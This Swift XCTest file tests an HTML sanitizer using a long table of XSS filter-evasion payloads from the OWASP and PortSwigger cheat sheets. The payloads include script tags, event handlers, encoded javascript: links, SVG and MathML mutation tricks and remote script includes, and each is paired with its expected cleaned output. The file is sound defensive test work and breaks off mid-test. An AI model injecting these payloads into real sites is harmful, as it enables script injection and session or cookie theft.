import Foundation
import XCTest

@testable import StewardCore

/// One row of a table-driven sanitizer test: where the input comes from, the input, and the
/// exact HTML the cleaner must produce for it.
struct SanitizerCase: Sendable {
    let source: String
    let input: String
    let expected: String

    init(_ source: String, _ input: String, _ expected: String) {
        self.source = source
        self.input = input
        self.expected = expected
    }
}

enum SanitizerTables {
    /// A cleaned link start tag that lost its target (or never had one).
    static let linkWithoutTarget = #"<a rel="noopener noreferrer nofollow">"#

    /// A cleaned link start tag that kept `href` (given here exactly as written in the
    /// output, that is, already escaped).
    static func link(_ escapedHref: String) -> String {
        #"<a href="\#(escapedHref)" rel="noopener noreferrer nofollow">"#
    }

    /// Attacks from the OWASP XSS Filter Evasion Cheat Sheet and PortSwigger's XSS cheat
    /// sheet, plus filter-splitting and mutation tricks. The expected output is written out
    /// in full: an empty string means nothing at all survives.
    static let hostile: [SanitizerCase] = [
        // Script elements, in every spelling.
        SanitizerCase("OWASP basic", #"<SCRIPT SRC=https://cdn.example/xss.js></SCRIPT>"#, ""),
        SanitizerCase("inline script", #"<script>alert(1)</script>"#, ""),
        SanitizerCase("script keeps following text", #"<script>alert(1)</script>after"#, "after"),
        SanitizerCase("OWASP non-alpha separator", #"<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>"#, ""),
        SanitizerCase("OWASP slash separator", #"<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>"#, ""),
        SanitizerCase("OWASP extraneous open brackets", #"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#, "&lt;"),
        SanitizerCase("OWASP no closing script tag", #"<SCRIPT SRC=http://xss.rocks/xss.js?< B >"#, ""),
        SanitizerCase("OWASP protocol resolution", #"<SCRIPT SRC=//xss.rocks/.j>"#, ""),
        SanitizerCase("OWASP end title tag", #"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#, ""),
        SanitizerCase("OWASP quoted > in attribute", #"<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#, ""),
        SanitizerCase("OWASP attribute named =", #"<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#, ""),
        SanitizerCase("OWASP quote-started attribute name", #"<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#, ""),
        SanitizerCase("OWASP backtick attribute", "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>", ""),
        SanitizerCase(
            "OWASP script split by document.write",
            #"<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
            #"PT SRC="httx://xss.rocks/xss.js"&gt;"#),
        SanitizerCase("double open bracket", #"<<script>alert(1);//<</script>"#, "&lt;"),
        SanitizerCase("nested split tag", #"<scr<script>ipt>alert(1)</scr</script>ipt>"#, "ipt&gt;alert(1)ipt&gt;"),
        SanitizerCase("upper-case script", #"<SCRIPT>alert(1)</SCRIPT><B>bold</B>"#, "<b>bold</b>"),
        SanitizerCase("unclosed script swallows the rest", #"<b>bold<script>alert(1)"#, "<b>bold</b>"),
        SanitizerCase("NUL inside a tag name", "<scr\u{0}ipt>alert(1)</script>", "alert(1)"),
        SanitizerCase("NUL in text is dropped", "a\u{0}b", "ab"),
        SanitizerCase("OWASP XSS locator polyglot",
            #"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#,
            "javascript:/*--&gt;"),
        SanitizerCase("classic attribute breakout", #""><script>alert(document.cookie)</script>"#, #""&gt;"#),
        SanitizerCase("OWASP XSS locator short", #"'';!--"<XSS>=&{()}"#, #"'';!--"=&amp;{()}"#),
        SanitizerCase("OWASP escaping JavaScript escapes", #"\";alert('XSS');//"#, #"\";alert('XSS');//"#),

        // Images, event handlers and other elements with URLs.
        SanitizerCase("OWASP image javascript", #"<IMG SRC="javascript:alert('XSS');">"#, ""),
        SanitizerCase("OWASP no quotes", #"<IMG SRC=javascript:alert('XSS')>"#, ""),
        SanitizerCase("OWASP entity quotes", #"<IMG SRC=javascript:alert(&quot;XSS&quot;)>"#, ""),
        SanitizerCase("OWASP grave accent", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", ""),
        SanitizerCase("OWASP malformed IMG", #"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#, #""\&gt;"#),
        SanitizerCase("OWASP fromCharCode", #"<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"#, ""),
        SanitizerCase("OWASP default src onmouseover", #"<IMG SRC=# onmouseover="alert('xxs')">"#, ""),
        SanitizerCase("OWASP onerror", #"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"#, ""),
        SanitizerCase("PortSwigger img onerror", #"<img src=x onerror=alert(1)>"#, ""),
        SanitizerCase("onerror in text context", #"<p>Hello<img src=x:alert(alt) onerror=eval(src) alt=0>"#, "<p>Hello</p>"),
        SanitizerCase("OWASP input image", #"<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">"#, ""),
        SanitizerCase("OWASP body onload", #"<BODY ONLOAD=alert('XSS')>"#, ""),
        SanitizerCase("OWASP body odd attribute", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", ""),
        SanitizerCase("OWASP bgsound", #"<BGSOUND SRC="javascript:alert('XSS');">"#, ""),
        SanitizerCase("OWASP br with & JavaScript include", #"<BR SIZE="&{alert('XSS')}">"#, "<br>"),
        SanitizerCase("OWASP link stylesheet", #"<LINK REL="stylesheet" HREF="javascript:alert('XSS');">"#, ""),
        SanitizerCase("OWASP table background", #"<TABLE><TD BACKGROUND="javascript:alert('XSS')">cell"#, "cell"),
        SanitizerCase("PortSwigger details ontoggle", #"<details open ontoggle=alert(1)>summary text</details>"#, "summary text"),
        SanitizerCase("PortSwigger video source onerror", #"<video><source onerror=alert(1)>fallback</video>"#, "fallback"),
        SanitizerCase("PortSwigger audio src/onerror", #"<audio src/onerror=alert(1)>"#, ""),
        SanitizerCase("PortSwigger custom tag autofocus", #"<xss onfocus=alert(1) autofocus tabindex=1>text</xss>"#, "text"),
        SanitizerCase("PortSwigger button formaction", #"<form><button formaction=javascript:alert(1)>click</button></form>"#, "click"),
        SanitizerCase("event handler on allowed element", #"<b onmouseover=alert(1)>hover</b>"#, "<b>hover</b>"),
        SanitizerCase("slash before handler", #"<p/onclick=alert(1)>x"#, "<p>x</p>"),
        SanitizerCase("title is not allowed on b", #"<b title="x" onclick="alert(1)">t</b>"#, "<b>t</b>"),

        // SVG and MathML.
        SanitizerCase("PortSwigger svg onload", #"<svg onload=alert(1)>"#, ""),
        SanitizerCase("OWASP svg/onload swallows what follows", #"<svg/onload=alert('XSS')>after"#, ""),
        SanitizerCase("self-closed svg keeps what follows", #"<svg/>after"#, "after"),
        SanitizerCase("script inside svg", #"<svg><script>alert(1)</script></svg>after"#, "after"),
        SanitizerCase("nested svg", #"<svg><svg></svg>hidden</svg>shown"#, "shown"),
        SanitizerCase("PortSwigger svg animate", #"<svg><animate onbegin=alert(1) attributeName=x dur=1s>"#, ""),
        SanitizerCase("PortSwigger svg a xlink:href",
            #"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>"#, ""),
        SanitizerCase("math mi xlink:href", #"<math><mi xlink:href="javascript:alert(1)">click</mi></math>"#, ""),
        SanitizerCase("PortSwigger maction",
            #"<math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(1)">CLICKME</maction></math>"#, ""),
        SanitizerCase("mXSS svg style", #"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#, ""),
        SanitizerCase("mXSS math mglyph", #"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#, ""),

        // javascript: links, encoded and split.
        SanitizerCase("javascript href", #"<a href="javascript:alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("mixed-case scheme", #"<a href="JaVaScRiPt:alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP decimal references",
            #"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>"#,
            linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP long decimal references without semicolons",
            #"<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>"#,
            linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP hex references without semicolons",
            #"<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>"#,
            linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP embedded tab", "<a href=\"jav\tascript:alert('XSS');\">x</a>", linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP encoded tab", #"<a href="jav&#x09;ascript:alert('XSS');">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP encoded newline", #"<a href="jav&#x0A;ascript:alert('XSS');">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP encoded carriage return", #"<a href="jav&#x0D;ascript:alert('XSS');">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP NUL in scheme", "<a href=\"java\u{0}script:alert('XSS')\">x</a>", linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP spaces and meta characters", #"<a href=" &#14;  javascript:alert('XSS');">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("leading space", #"<a href=" javascript:alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("leading control reference", #"<a href="&#1;javascript:alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("&colon; reference", #"<a href="javascript&colon;alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("&Tab; reference", #"<a href="java&Tab;script:alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("&NewLine; and friends", #"<a href="java&NewLine;script&colon;alert&lpar;1&rpar;">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("unquoted with references", #"<a href=javascript&colon;alert&lpar;1&rpar;>x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("hex colon", #"<a href="javascript&#x3A;alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("reference in the middle of the scheme", #"<a href="javas&#99;ript:alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("NUL reference in the scheme", #"<a href="java&#0;script:alert(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("full-width letters", "<a href=\"\u{FF4A}avascript:alert(1)\">x</a>", linkWithoutTarget + "x</a>"),
        SanitizerCase("backtick href", "<a href=`javascript:alert(1)`>x</a>", linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP document.location", #"<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>"#, linkWithoutTarget + "XSS</a>"),
        SanitizerCase("vbscript", #"<a href="vbscript:msgbox(1)">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("data URL", #"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("data URL with markup", #"<a href="data:text/html,<script>alert(1)</script>">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("protocol-relative", #"<a href=//evil.example>x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("OWASP protocol-relative", #"<A HREF="//www.google.com/">XSS</A>"#, linkWithoutTarget + "XSS</a>"),
        SanitizerCase("second href is ignored", #"<a href="javascript:alert(1)" href="https://ok.example">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("NUL in the tag name", "<a\u{0} href=\"https://ok.example\">x</a>", "x"),
        SanitizerCase("handlers and rel dropped from a good link",
            #"<a href="https://ok.example" onclick="alert(1)" style="color:red" rel="opener" target="_blank">ok</a>"#,
            link("https://ok.example") + "ok</a>"),
        SanitizerCase("form feed before a handler", "<a href=\"https://ok.example\"\u{0C}onclick=alert(1)>x</a>", link("https://ok.example") + "x</a>"),
        SanitizerCase("quote smuggled into href",
            #"<a href="https://ok.example/&#x22; onclick=&#x22;alert(1)">x</a>"#,
            link("https://ok.example/&quot; onclick=&quot;alert(1)") + "x</a>"),
        SanitizerCase("markup smuggled into title",
            #"<a href="http://ok.example" title="&quot;><script>alert(1)</script>">t</a>"#,
            #"<a href="http://ok.example" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" rel="noopener noreferrer nofollow">t</a>"#),
        SanitizerCase("script text inside an open tag",
            #"<a href="https://ok.example" <script>alert(1)</script>"#,
            link("https://ok.example") + "alert(1)</a>"),
        SanitizerCase("OWASP malformed A tag", #"\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>"#, #"\"# + linkWithoutTarget + #"xxs link\</a>"#),

        // Comments and other markup declarations.
        SanitizerCase("comment hiding a script", #"<!--<script>alert(1)</script>-->"#, ""),
        SanitizerCase("comment around script tags only", #"<!--<script>-->alert(1)<!--</script>-->"#, "alert(1)"),
        SanitizerCase("abruptly closed comment", #"<!--><script>alert(1)</script>-->"#, "--&gt;"),
        SanitizerCase("comment closed with --!>", #"<!-- x --!><b>y</b>"#, "<b>y</b>"),
        SanitizerCase("unclosed comment", #"<!-- unclosed <script>alert(1)</script>"#, ""),
        SanitizerCase("OWASP downlevel-hidden conditional comment", #"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"#, ""),
        SanitizerCase("downlevel-revealed conditional comment", #"<![if !IE]><script>alert(1)</script><![endif]>visible"#, "visible"),
        SanitizerCase("CDATA is a bogus comment in HTML", #"<![CDATA[<script>alert(1)</script>]]>"#, "alert(1)]]&gt;"),
        SanitizerCase("processing instruction", #"<?xml version="1.0"?><p>x</p>"#, "<p>x</p>"),
        SanitizerCase("doctype", #"<!DOCTYPE html><p>x</p>"#, "<p>x</p>"),
        SanitizerCase("OWASP HTML+TIME",
            ##"<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>"##,
            ""),

        // Styles.
        SanitizerCase("OWASP list-style-image",
            #"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
            "<ul><li>XSS<br></li></ul>"),
        SanitizerCase("OWASP remote style sheet", #"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"#, ""),
        SanitizerCase("OWASP -moz-binding", #"<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>"#, ""),
        SanitizerCase("OWASP broken-up style", #"<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>"#, ""),
        SanitizerCase("OWASP style attribute with comment", #"<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">"#, ""),
        SanitizerCase("OWASP IMG STYLE with expression",
            #"exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>"#,
            "exp/*" + linkWithoutTarget + "</a>"),
        SanitizerCase("OWASP style background-image",
            #"<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>"#,
            linkWithoutTarget + "</a>"),
        SanitizerCase("OWASP anonymous element with style", #"<XSS STYLE="xss:expression(alert('XSS'))">"#, ""),
        SanitizerCase("OWASP div expression", #"<DIV STYLE="width: expression(alert('XSS'));">text</DIV>"#, "text"),
        SanitizerCase("OWASP div unicode escapes",
            #"<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">x</DIV>"#,
            "x"),

        // Document-level and embedding elements.
        SanitizerCase("OWASP meta refresh", #"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#, ""),
        SanitizerCase("OWASP meta refresh data",
            #"<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">"#, ""),
        SanitizerCase("OWASP meta set-cookie", #"<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">"#, ""),
        SanitizerCase("OWASP base href", #"<BASE HREF="javascript:alert('XSS');//">"#, ""),
        SanitizerCase("OWASP iframe", #"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#, ""),
        SanitizerCase("iframe data URL", #"<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>"#, ""),
        SanitizerCase("iframe contents are dropped", #"<iframe src=javascript:alert(1)>fallback</iframe>after"#, "after"),
        SanitizerCase("PortSwigger iframe srcdoc", #"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#, ""),
        SanitizerCase("OWASP frameset", #"<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>"#, ""),
        SanitizerCase("OWASP object", #"<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>"#, ""),
        SanitizerCase("object fallback is dropped", #"<object data="javascript:alert(1)">fallback</object>after"#, "after"),
        SanitizerCase("OWASP embed",
            #"<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>after"#,
            "after"),
        SanitizerCase("form action", #"<form action="javascript:alert(1)"><input type=submit value=go></form>"#, ""),
        SanitizerCase("OWASP XML data island",
            #"<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>"#,
            "<i><b></b></i>"),
        SanitizerCase("noscript mutation", #"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#, #""&gt;"#),
        SanitizerCase("template contents", #"<template><script>alert(1)</script>hidden</template>shown"#, "shown"),
        SanitizerCase("textarea breakout", #"</textarea><script>alert(1)</script>"#, ""),
        SanitizerCase("textarea contents", #"<textarea><script>alert(1)</script></textarea>after"#, "after"),
        SanitizerCase("title, xmp, noembed, noframes",
            #"<title>t</title><xmp><b>x</b></xmp><noembed>n</noembed><noframes>f</noframes>ok"#, "ok"),
        SanitizerCase("select contents", #"<select><option>o<script>alert(1)</script></select>ok"#, "ok"),
        SanitizerCase("plaintext shows the rest as text", #"<plaintext><b>bold</b>"#, "&lt;b&gt;bold&lt;/b&gt;"),
        SanitizerCase("unfinished tag at the end", #"<IMG SRC="`<javascript:alert>`('XSS')""#, ""),
        SanitizerCase("OWASP double open angle bracket", #"<iframe src=http://xss.rocks/scriptlet.html <"#, ""),
    ]

    /// Markup that must come through: every allowed element and every kind of link.
    static let allowed: [SanitizerCase] = [
        SanitizerCase("p", "<p>para</p>", "<p>para</p>"),
        SanitizerCase("br", "a<br>b", "a<br>b"),
        SanitizerCase("self-closing br", "a<br/>b<BR />c", "a<br>b<br>c"),
        SanitizerCase("end tag br is a br", "a</br>b", "a<br>b"),
        SanitizerCase("strong and em", "<strong>s</strong><em>e</em>", "<strong>s</strong><em>e</em>"),
        SanitizerCase("b i u s", "<b>b</b><i>i</i><u>u</u><s>s</s>", "<b>b</b><i>i</i><u>u</u><s>s</s>"),
        SanitizerCase("lists", "<ul><li>one</li></ul><ol><li>two</li></ol>", "<ul><li>one</li></ul><ol><li>two</li></ol>"),
        SanitizerCase("blockquote", "<blockquote>quoted</blockquote>", "<blockquote>quoted</blockquote>"),
        SanitizerCase("code", "<code>let x = 1</code>", "<code>let x = 1</code>"),
        SanitizerCase("pre keeps white space", "<pre>  a\n\tb  </pre>", "<pre>  a\n\tb  </pre>"),
        SanitizerCase("headings",
            "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>",
            "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>"),
        SanitizerCase("upper-case tags become lower-case", "<P><STRONG>x</STRONG></P>", "<p><strong>x</strong></p>"),
        SanitizerCase("attributes dropped from allowed elements", #"<p class="c" id="i" style="x">t</p>"#, "<p>t</p>"),
        SanitizerCase("http link", #"<a href="http://example.com/">x</a>"#, link("http://example.com/") + "x</a>"),
        SanitizerCase("https link with query", #"<a href="https://example.com/a?b=1&amp;c=2#d">x</a>"#,
            link("https://example.com/a?b=1&amp;c=2#d") + "x</a>"),
        SanitizerCase("mailto link", #"<a href="mailto:someone@example.com?subject=Hi">mail</a>"#,
            link("mailto:someone@example.com?subject=Hi") + "mail</a>"),
        SanitizerCase("upper-case scheme", #"<A HREF="HTTPS://EXAMPLE.COM/">up</A>"#, link("HTTPS://EXAMPLE.COM/") + "up</a>"),
        SanitizerCase("upper-case mailto", #"<a href="MAILTO:x@example.com">m</a>"#, link("MAILTO:x@example.com") + "m</a>"),
        SanitizerCase("title kept", #"<a href="https://example.com" title="A &amp; B">x</a>"#,
            #"<a href="https://example.com" title="A &amp; B" rel="noopener noreferrer nofollow">x</a>"#),
        SanitizerCase("title without href", #"<a title="t">x</a>"#, #"<a title="t" rel="noopener noreferrer nofollow">x</a>"#),
        SanitizerCase("attribute order is fixed", #"<a title="t" href="https://example.com">x</a>"#,
            #"<a href="https://example.com" title="t" rel="noopener noreferrer nofollow">x</a>"#),
        SanitizerCase("href written without surrounding space", #"<a href="  https://example.com/a b  ">x</a>"#,
            link("https://example.com/a b") + "x</a>"),
        SanitizerCase("tabs and newlines removed from href", "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">XSS</A>",
            link("http://66.000146.0x7.147/") + "XSS</a>"),
        SanitizerCase("OWASP IP address link", #"<A HREF="http://66.102.7.147/">XSS</A>"#, link("http://66.102.7.147/") + "XSS</a>"),
        SanitizerCase("OWASP percent-encoded host", #"<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>"#,
            link("http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D") + "XSS</a>"),
        SanitizerCase("encoded scheme that decodes to https", #"<a href="&#x68;ttps://ok.example/">d</a>"#, link("https://ok.example/") + "d</a>"),
        SanitizerCase("relative link dropped", #"<a href="/relative/path">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("fragment link dropped", ##"<a href="#top">x</a>"##, linkWithoutTarget + "x</a>"),
        SanitizerCase("bare host dropped", #"<a href="example.com">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("http without slashes dropped", #"<a href="http:evil.example">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("http without host dropped", #"<a href="https:///evil">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("backslash host dropped", #"<a href="https:\\evil.example">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("empty mailto dropped", #"<a href="mailto:">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("ftp dropped", #"<a href="ftp://example.com/f">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("empty href dropped", #"<a href="">x</a>"#, linkWithoutTarget + "x</a>"),
        SanitizerCase("text escaping", "a < b && c > d", "a &lt; b &amp;&amp; c &gt; d"),
        SanitizerCase("quotes stay in text", #"say "hi" and 'bye'"#, #"say "hi" and 'bye'"#),
        SanitizerCase("unicode text", "Caf\u{E9} \u{65E5}\u{672C}\u{8A9E} \u{1F600} e\u{301}", "Caf\u{E9} \u{65E5}\u{672C}\u{8A9E} \u{1F600} e\u{301}"),
        SanitizerCase("less-than followed by a digit", "<3 and </ 3>", "&lt;3 and "),
        SanitizerCase("CR LF becomes LF", "a\r\nb\rc", "a\nb\nc"),
        SanitizerCase("empty input", "", ""),
    ]

    /// How open elements are closed, the way a browser's tree builder does it.
    static let nesting: [SanitizerCase] = [
        SanitizerCase("unclosed element", "<b>unclosed", "<b>unclosed</b>"),
        SanitizerCase("closed in order at the end", "<ul><li><b><i>x", "<ul><li><b><i>x</i></b></li></ul>"),
        SanitizerCase("end tag closes inner elements", "<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
        SanitizerCase("stray end tag", "</p>stray</b>", "stray"),
        SanitizerCase("paragraph closes paragraph", "<p>a<p>b", "<p>a</p><p>b</p>"),
        SanitizerCase("list closes paragraph", "<p>a<ul><li>b</ul>c", "<p>a</p><ul><li>b</li></ul>c"),
        SanitizerCase("paragraph closes inline elements inside it", "<p><b>x<p>y", "<p><b>x</b></p><p>y</p>"),
        SanitizerCase("list item closes list item", "<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        SanitizerCase("list item closes through inline elements", "<ul><li>a<b>b<li>c", "<ul><li>a<b>b</b></li><li>c</li></ul>"),
        SanitizerCase("nested list does not close outer item", "<ul><li>a<ul><li>b</ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
        SanitizerCase("end li does not reach outside its list", "<li>a<ul></li>b", "<li>a<ul>b</ul></li>"),
        SanitizerCase("heading closes heading", "<h1>a<h2>b", "<h1>a</h1><h2>b</h2>"),
        SanitizerCase("any heading end tag closes a heading", "<h1>a</h2>b", "<h1>a</h1>b"),
        SanitizerCase("link closes link",
            #"<a href="https://a.example">1<a href="https://b.example">2</a>"#,
            link("https://a.example") + "1</a>" + link("https://b.example") + "2</a>"),
        SanitizerCase("blockquote end closes paragraph inside", "<blockquote><p>q</blockquote>after", "<blockquote><p>q</p></blockquote>after"),
        SanitizerCase("removed element does not close anything", "<div><p>para</div>tail", "<p>paratail</p>"),
        SanitizerCase("p void syntax still opens", "<p/>text", "<p>text</p>"),
    ]

    /// Character references in text.
    static let references: [SanitizerCase] = [
        SanitizerCase("basic named", "&amp; &lt; &gt; &quot; &apos; &nbsp;", "&amp; &lt; &gt; \" ' \u{A0}"),
        SanitizerCase("punctuation names",
            "&colon; &Tab; &NewLine; &lpar; &rpar; &sol; &semi; &comma; &period; &excl; &num;",
            ": \t \n ( ) / ; , . ! #"),
        SanitizerCase("legacy names without semicolon", "&amp &lt &gt &quot &copy &nbspx", "&amp; &lt; &gt; \" \u{A9} \u{A0}x"),
        SanitizerCase("other names need the semicolon", "&colon &Tab &lpar", "&amp;colon &amp;Tab &amp;lpar"),
        SanitizerCase("longest match", "&notit; &notin; &not", "\u{AC}it; \u{2209} \u{AC}"),
        SanitizerCase("two code points", "&NotEqualTilde;", "\u{2242}\u{338}"),
        SanitizerCase("decimal and hex", "&#65; &#x41; &#X41; &#0065 &#x000041", "A A A A A"),
        SanitizerCase("invalid numbers", "&#0; &#xD800; &#x110000; &#99999999999999;", "\u{FFFD} \u{FFFD} \u{FFFD} \u{FFFD}"),
        SanitizerCase("Windows-1252 numbers", "&#128; &#150; &#x99;", "\u{20AC} \u{2013} \u{2122}"),
        SanitizerCase("numbers without digits", "&#; &#x; &#xZ;", "&amp;#; &amp;#x; &amp;#xZ;"),
        SanitizerCase("unknown names", "&bogus; & alone &", "&amp;bogus; &amp; alone &amp;"),
        SanitizerCase("references that decode to markup", "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        SanitizerCase("carriage return reference: a control, dropped", "a&#13;b", "ab"),
        SanitizerCase("query strings in attributes keep legacy names",
            #"<a href="https://x.example/?a=1&copy=2&amp=3&lt;4&amp;5">q</a>"#,
            link("https://x.example/?a=1&amp;copy=2&amp;amp=3&lt;4&amp;5") + "q</a>"),
    ]

    /// Visible text: decoded, tag-free, white space collapsed.
    static let visibleText: [(input: String, visible: String)] = [
        ("<p>Hello</p><p>World</p>", "Hello World"),
        ("  lots   of\n\n space  ", "lots of space"),
        ("<b>con</b>cat<i>en</i>ated", "concatenated"),
        ("line<br>break", "line break"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
        ("<h1>Title</h1>Body", "Title Body"),
        ("&nbsp;&nbsp;x&nbsp;\u{3000}y", "x y"),
        ("<script>hidden</script>shown", "shown"),
        ("&lt;b&gt; &amp;", "<b> &"),
        ("<p>   </p><p>\t</p>", ""),
        ("<img src=x><svg><text>x</text></svg>", ""),
        ("Caf\u{E9}\u{A0}\u{1F600}", "Caf\u{E9} \u{1F600}"),
        ("a\u{0}b", "ab"),
    ]

    static var allCases: [SanitizerCase] { hostile + allowed + nesting + references }
}

final class HTMLSanitizerTests: XCTestCase {
    func testHostileInputsFromXSSCheatSheets() {
        XCTAssertGreaterThanOrEqual(SanitizerTables.hostile.count, 60)
        for row in SanitizerTables.hostile {
            XCTAssertEqual(HTMLSanitizer.clean(row.input).html, row.expected, row.source)
        }
    }

    func testAllowedMarkupAndLinks() {
        for row in SanitizerTables.allowed {
            XCTAssertEqual(HTMLSanitizer.clean(row.input).html, row.expected, row.source)
        }
    }

    func testNestingFollowsTheBrowser() {
        for row in SanitizerTables.nesting {
            XCTAssertEqual(HTMLSanitizer.clean(row.input).html, row.expected, row.source)
        }
    }

    func testCharacterReferences() {
        for row in SanitizerTables.references {
            XCTAssertEqual(HTMLSanitizer.clean(row.input).html, row.expected, row.source)
        }
    }

    func testVisibleText() {
        for row in SanitizerTables.visibleText {
